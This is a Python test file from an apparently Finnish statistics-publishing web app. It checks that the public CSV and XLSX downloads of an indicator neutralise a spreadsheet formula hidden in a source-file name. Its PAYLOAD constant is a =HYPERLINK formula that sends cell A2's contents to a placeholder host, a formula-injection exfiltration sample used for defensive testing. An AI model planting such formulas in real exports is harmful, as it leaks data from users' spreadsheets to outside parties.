"""The public download of an indicator writes no live formula (issue 14), as every export."""

import copy
import csv
import io

from openpyxl import load_workbook

from mittaristo.reviews.models import ReviewRound
from mittaristo.web.published import find_indicator

from .test_public import publish_later_round

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A2;"klik")'


def test_the_public_download_neutralises_a_formula_in_a_source_name(client, demo_db):
    demo = ReviewRound.objects.get()
    snapshot = copy.deepcopy(demo.snapshot)
    for value in find_indicator(snapshot, "tyopaikat")["values"]:
        value["source_ref"] = PAYLOAD  # the name of an imported file is a person's text
    publish_later_round(demo, snapshot)  # the latest published round is the one downloaded
    text = client.get("/mittarit/tyopaikat/lataa.csv").content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))[1:]
    assert rows and {row[5] for row in rows} == {"'" + PAYLOAD}
    assert rows[0][3] == "6199"
    content = client.get("/mittarit/tyopaikat/lataa.xlsx").content
    cells = list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert {(c[5].value, c[5].data_type) for c in cells} == {(PAYLOAD, "s")}
    assert cells[0][3].value == 6199 and cells[0][3].data_type == "n"
